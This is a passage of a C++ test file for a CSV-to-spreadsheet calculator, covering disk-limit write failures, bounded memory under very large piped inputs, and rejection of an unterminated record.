    // system's signal for a file past the limit no longer ends the program: the write fails.
    std::string houses = "Address;EntranceCount\n";
    for (int i = 0; i < 2000; ++i) {
        houses += "дом " + std::to_string(i) + ";" + std::to_string(1 + i % 5) + "\n";
    }
    File("many.csv", houses);
    for (const std::string name : {"old.xlsx", "old.ods", "old.csv"}) {
        File(name, "the old results");
        const Outcome full = Shell("(ulimit -f 64; '" + std::string(VIRASVET_CALC) +
                                   "' --seed 1 --jobs 1 -o " + name + " many.csv 2>err.txt)");
        EXPECT_EQ(full.Status, 2) << name << "\n" << full.Err;
        EXPECT_EQ(full.Err, "Не удалось записать файл " + name +
                                ": файл слишком велик для этого диска; выберите другой диск\n");
        EXPECT_EQ(Read(name), "the old results") << name;
        std::vector<std::string> names;
        for (const fs::directory_entry& entry : fs::directory_iterator(dir_)) {
            names.push_back(entry.path().filename().string());
        }
        std::sort(names.begin(), names.end());
        EXPECT_EQ(names, (std::vector<std::string>{"err.txt", "many.csv", name})) << name;
        fs::remove(dir_ / name);
    }
}

TEST_F(OfficeFiles, MemoryStaysBoundedWhateverTheFileSize) {
#if defined(__SANITIZE_ADDRESS__)
    GTEST_SKIP() << "the sanitizers' shadow memory is no measure of the program's";
#else
    // 400,000 rows from a pipe: the program held about a kilobyte a row before it streamed.
    const Outcome run =
        Shell("(echo 'Address;Tariff'; yes 'x;0' | head -n 400000) | '" +
              std::string(VIRASVET_CALC) + "' --max-errors 0 --jobs 2 - >/dev/null 2>err.txt");
    EXPECT_EQ(run.Status, 1);
    EXPECT_NE(run.Err.find("посчитано домов: 0, отклонено строк: 400000\n"), std::string::npos)
        << run.Err;
    EXPECT_LT(run.PeakKilobytes, 100 * 1024) << "peak resident kilobytes";
    // Rows made from the template ask for the economics: two blocks of them calculated (a house's
    // discounted costs of every day once took 160 kB while its block waited), then rejected rows.
    const std::string calc = "'" + std::string(VIRASVET_CALC) + "'";
    const Outcome economics = Shell(
        "(" + calc + " --template | head -n 1; " + calc + " --template | tail -n 1 > row.csv; " +
        "yes \"$(cat row.csv)\" | head -n 8192; yes 'x;0' | head -n 391808) | " + calc +
        " --seed 1 --max-errors 0 --jobs 2 - >/dev/null 2>err.txt");
    EXPECT_EQ(economics.Status, 1);
    EXPECT_NE(economics.Err.find("посчитано домов: 8192, отклонено строк: 391808\n"),
              std::string::npos)
        << economics.Err;
    EXPECT_LT(economics.PeakKilobytes, 100 * 1024) << "peak resident kilobytes with the economics";
    // Nor does a record that never ends grow: it is refused past its limit (a line that never
    // ends: lines after a quote left open are read again one by one).
    const Outcome endless = Shell("(printf 'Address\\n\"'; yes 'x' | tr -d '\\n') | '" +
                                  std::string(VIRASVET_CALC) + "' - >/dev/null 2>err.txt");
    EXPECT_EQ(endless.Status, 2);
    EXPECT_NE(endless.Err.find("-: строка 2: запись длиннее 1 МБ"), std::string::npos)
        << endless.Err;
#endif
}

} // namespace
